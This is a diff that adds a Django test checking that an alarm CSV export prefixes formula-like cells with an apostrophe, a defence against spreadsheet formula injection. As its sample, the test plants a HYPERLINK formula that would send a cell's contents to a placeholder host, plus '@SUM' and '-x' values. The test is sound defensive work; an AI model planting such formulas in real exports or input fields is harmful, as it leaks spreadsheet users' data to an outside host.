@@ -295,3 +295,21 @@ def test_bulk_acknowledge_refuses_ids_beyond_a_row_id_and_writes_nothing(alarm, 
         assert resp.status_code == 400 and b"alarm" in resp.content, bad
     assert Alarm.objects.get(pk=alarm.pk).acknowledged_by_id is None
     assert not [r for r in caplog.records if r.levelname == "ERROR"]
+
+
+def test_alarm_csv_cells_a_spreadsheet_would_run_get_an_apostrophe(alarm, users, client_for):
+    """Object names and messages come from the fabric (NodeDescription is set by each host): a
+    cell starting with =, +, -, @ is written with a leading apostrophe (weft.csvcells, as the
+    ports CSV); the alarm CSV wrote them as they were."""
+    import csv
+    import io
+
+    from events.models import Alarm
+
+    Alarm.objects.filter(pk=alarm.pk).update(
+        object_repr='=HYPERLINK("http://x.example/?"&A1,"open")', message="@SUM(1+1)", object_key="-x"
+    )
+    body = client_for("viewer").get("/alarms/export.csv").content.decode()
+    (row,) = list(csv.DictReader(io.StringIO(body)))
+    assert row["object"] == '\'=HYPERLINK("http://x.example/?"&A1,"open")'
+    assert (row["message"], row["object_key"], row["count"]) == ("'@SUM(1+1)", "'-x", "1")
